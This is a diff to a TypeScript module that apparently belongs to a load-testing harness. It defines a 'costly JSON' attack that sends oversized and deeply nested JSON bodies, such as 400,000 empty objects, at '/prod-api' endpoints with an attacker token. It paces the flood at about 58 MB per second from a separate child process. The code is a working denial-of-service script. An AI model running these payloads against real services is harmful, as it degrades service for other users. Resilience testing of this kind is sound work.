@@ -1,8 +1,10 @@
-import { Worker } from 'node:worker_threads';
+import { spawn } from 'node:child_process';
 import type { TimedAttack } from './timed-attack';
 
 /** Requests at once, below the edge's limit for one address, which the other user shares. */
 const atOnce = 16;
+/** About 58 MB, as much as a line of half a gigabit carries. */
+const perSecond = 20;
 
 const objectOf = (keys: number) => `{${Array.from({ length: keys }, (_, at) => `"key${at}":1`).join(',')}}`;
 const nested = (levels: number) => `${'['.repeat(levels)}${']'.repeat(levels)}`;
@@ -19,25 +21,30 @@ const bodies = [
   { path: '/api/insures/checkPersons', method: 'POST', body: `{"rows":[${'{},'.repeat(400_000)}{}]}` },
 ];
 
-/** Runs in a thread of its own, so that sending does not slow down whoever measures the others. */
+/** Runs in a process of its own that leaves the processors to the others: an attacker has a machine elsewhere. */
 const sender = `
-  const { parentPort, workerData } = require('node:worker_threads');
-  const { base, token, atOnce } = workerData;
-  const bodies = workerData.bodies.map((one) => ({ ...one, body: Buffer.from(one.body) }));
-  const counts = {};
-  const send = async (from) => {
-    for (let index = from; ; index += 1) {
-      const { path, method, body, form } = bodies[index % bodies.length];
-      const type = form ? 'application/x-www-form-urlencoded' : 'application/json';
-      const headers = { Token: token, 'Content-Type': type };
-      const status = await fetch(base + '/prod-api' + path, { method, headers, body })
-        .then((reply) => reply.arrayBuffer().then(() => reply.status))
-        .catch(() => 'closed');
-      counts[status] = (counts[status] ?? 0) + 1;
-      parentPort.postMessage(counts);
-    }
-  };
-  for (let at = 0; at < atOnce; at += 1) void send(at);
+  const { setPriority } = require('node:os');
+  setPriority(19);
+  process.once('message', ({ base, token, atOnce, perSecond, bodies }) => {
+    const sized = bodies.map((one) => ({ ...one, body: Buffer.from(one.body) }));
+    const counts = {};
+    const send = async (from) => {
+      for (let index = from; ; index += 1) {
+        const { path, method, body, form } = sized[index % sized.length];
+        const paced = new Promise((resolve) => setTimeout(resolve, (1_000 * atOnce) / perSecond));
+        const type = form ? 'application/x-www-form-urlencoded' : 'application/json';
+        const headers = { Token: token, 'Content-Type': type };
+        const status = await fetch(base + '/prod-api' + path, { method, headers, body })
+          .then((reply) => reply.arrayBuffer().then(() => reply.status))
+          .catch(() => 'closed');
+        counts[status] = (counts[status] ?? 0) + 1;
+        process.send(counts);
+        await paced;
+      }
+    };
+    for (let at = 0; at < atOnce; at += 1) void send(at);
+  });
+  process.once('disconnect', () => process.exit());
 `;
 
 /** Sends them until the end, several at once. */
@@ -45,10 +52,13 @@ export const costlyJson: TimedAttack = {
   name: 'costly JSON',
   async begin({ base, attacker: { token } }) {
     let counts: Record<string, number> = {};
-    const thread = new Worker(sender, { eval: true, workerData: { base, token, atOnce, bodies } });
-    thread.on('message', (latest: Record<string, number>) => (counts = latest));
+    const attacker = spawn(process.execPath, ['-e', sender], {
+      stdio: ['ignore', 'inherit', 'inherit', 'ipc'],
+    });
+    attacker.on('message', (latest: Record<string, number>) => (counts = latest));
+    attacker.send({ base, token, atOnce, perSecond, bodies });
     return () => {
-      void thread.terminate();
+      attacker.kill();
       return Object.entries(counts)
         .map(([status, count]) => `${count} × ${status}`)
         .join(', ');
